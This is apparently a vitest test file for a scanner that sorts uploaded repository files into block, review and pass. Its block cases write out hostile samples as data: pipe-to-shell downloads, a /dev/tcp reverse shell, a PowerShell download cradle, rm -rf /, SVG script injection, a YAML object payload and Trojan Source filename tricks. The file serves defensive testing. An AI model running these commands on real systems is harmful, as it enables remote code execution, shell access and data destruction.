// SPDX-License-Identifier: Apache-2.0
import { describe, expect, test } from 'vitest';
import { judged, rulesOf } from './judged.ts';

describe('a file that some program runs', () => {
  test.each([
    ['Dockerfile', 'FROM x\nRUN wget -qO- http://x | sh\n'],
    ['Makefile', 'all:\n	curl http://x | sh\n'],
    ['a.sh', 'curl http://x | sudo bash\n'],
    ['b.sh', 'bash -i >& /dev/tcp/1.1.1.1/9 0>&1\n'],
    ['c.sh', 'echo aWQ= | base64 -d | sh\n'],
    ['d.sh', 'rm -rf / --no-preserve-root\n'],
    ['e.ps1', "IEX (New-Object Net.WebClient).DownloadString('http://x')\n"],
    ['f.bat', 'certutil -urlcache -f http://x a.exe\n'],
    ['n.ipynb', '{"cells":[{"cell_type":"code","source":["!curl http://x | bash"],"outputs":[]}],"nbformat":4}'],
    ['p.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    ['p2.svg', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    ['x.pth', "import os; os.system('id')\n"],
  ])('%s is blocked: %s', async (path, source) => {
    expect((await judged(source, path)).verdict).toBe('block');
  });

  test.each([
    ['Dockerfile', 'FROM python\nRUN pip install torch\n'],
    [
      'nb.ipynb',
      '{"cells":[{"cell_type":"code","source":["import os\\n","!pip install x\\n","os.system(\'ls\')"],"outputs":[],"metadata":{},"execution_count":null}],"metadata":{},"nbformat":4,"nbformat_minor":5}',
    ],
    ['page.html', '<html><script>alert(1)</script></html>'],
    ['requirements.txt', 'git+https://github.com/a/b\n'],
    ['run.js', 'console.log(1)\n'],
    ['setup.py', "from setuptools import setup\nsetup(name='x', version=open('V').read())\n"],
    ['x.sh', '#!/bin/sh\necho hi\n'],
  ])('%s asks for a review: %s', async (path, source) => {
    expect((await judged(source, path)).verdict).toBe('review');
  });

  test.each([
    ['.gitattributes', '*.bin filter=lfs diff=lfs merge=lfs -text\n'],
    ['LICENSE', 'MIT License\n\nCopyright (c) 2024\n'],
    [
      'README.md',
      '---\nlicense: mit\ntags:\n- a\n---\n# Hi\n<p align="center"><img src="x.png" onerror=""></p>\n```bash\ncurl https://x.y/i.sh | sh\npip install -U x\n```\n```python\nimport os\nos.system(\'x\')\nfrom huggingface_hub import login\nlogin(token="hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx")\n```\nexport OPENAI_API_KEY=sk-your-key-here-xxxxxxxxxxxxxxx\n',
    ],
    ['config.toml', 'a = 1\n[b]\nc = "!python"\n'],
    [
      'hash.txt',
      'sha256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\nuuid: 123e4567-e89b-12d3-a456-426614174000\ncommit: 1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b\n',
    ],
    ['merges.txt', '#version: 0.2\no s\ni m\n! =\n'],
    [
      'notes.md',
      'Set `api_key = "<your api key>"` or `password: "changeme"`; token = os.environ[\'HF_TOKEN\']; postgres://user:password@localhost/db\n-----BEGIN PUBLIC KEY-----\nMIIB\n',
    ],
    ['page.html', '<html><body><p>hello</p></body></html>'],
    ['pic.svg', '<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>'],
    [
      'pyproject.toml',
      '[build-system]\nrequires=["setuptools"]\nbuild-backend = "setuptools.build_meta"\n[project]\nname=\'x\'\n',
    ],
    [
      'requirements.txt',
      "torch>=2.0\ntransformers==4.40\n--extra-index-url https://download.pytorch.org/whl/cu118\n# comment\nnumpy; python_version<'3.9'\n",
    ],
    [
      'tok.json',
      '{"unk_token": "<unk>", "bos_token": "<|begin_of_text|>", "pad_token": "<|reserved_special_token_12|>", "api_key": null, "auth_token": "abc"}',
    ],
    [
      'tokenizer_config.json',
      '{"added_tokens_decoder": {"0": {"content": "<script>"}}, "name_or_path": "x/y", "tokenizer_class": "LlamaTokenizer"}',
    ],
    ['training.log', "epoch 1: loss 0.5\nError: don't (\n"],
    ['vocab.txt', "[PAD]\nimport\nos.system(\n<script>\n!!python/object\n__import__('os')\n"],
    ['x.csv', 'a,b\n-1,2\n=1,3\n'],
    ['x.ini', '[a]\nb = 1\n'],
    ['x.properties', 'a=b\n'],
  ])('%s passes: %s', async (path, source) => {
    expect(await judged(source, path)).toMatchObject({ verdict: 'pass' });
  });
});

// Trojan Source, CVE-2021-42574
test('bidirectional controls are blocked in code and pass in prose', async () => {
  expect(await rulesOf('x = 1 # \u202e\n', 'a.py')).toContain('code-hidden');
  expect(await rulesOf('\u202b\u05e9\u05dc\u05d5\u05dd\u202c\n', 'README.md')).toEqual([]);
});

describe('a name', () => {
  test.each([
    ['model.safetensors.exe', 'block'],
    ['photo\u202egnp.exe', 'block'],
    ['README.md.py', 'review'],
    ['a\u200bb.txt', 'review'],
    ['mod\u0435l.txt', 'review'],
    ['aux.txt', 'review'],
    ['name.txt.', 'review'],
    ['folder /a.txt', 'review'],
    ['v1.5/model.v2.txt', 'pass'],
    ['\u043c\u043e\u0434\u0435\u043b\u044c.txt', 'pass'],
    ['\u6a21\u578b-v2.txt', 'pass'],
    ['.gitattributes', 'pass'],
  ])('%j is %s', async (path, verdict) => {
    expect((await judged('x\n', path)).verdict).toBe(verdict);
  });
});

test('text in latin-1 and in UTF-16 is text', async () => {
  expect(await judged(Buffer.from('d\xe9j\xe0 vu\n', 'latin1'), 'a.txt')).toMatchObject({
    verdict: 'pass',
    format: 'text',
  });
  expect(await judged(Buffer.from('\ufeffa,b\n', 'utf16le'), 'a.csv')).toMatchObject({
    verdict: 'pass',
    format: 'text',
  });
});

test.each([
  ['model.py', 'import os\nos.system("true")\n', 'block'],
  ['table.py', '    3,\n', 'review'],
  ['config.yaml', 'a: !!python/object/apply:os.system ["true"]\n', 'block'],
])('%s with %s behind four million characters is %s', async (path, tail, verdict) => {
  const padding = path.endsWith('.py') ? `X = [\n${'  1,\n'.repeat(900_000)}` : 'a: 1\n'.repeat(900_000);
  expect((await judged(padding + tail, path)).verdict).toBe(verdict);
});

test('calls behind half a million tokens are not hidden by them', async () => {
  const padding = `X = [${'1,'.repeat(300_000)}]\n`;
  expect((await judged(`${padding}import os\nos.system("true")\n`, 'model.py')).verdict).toBe('block');
  expect((await judged(padding, 'table.py')).verdict).toBe('review');
});
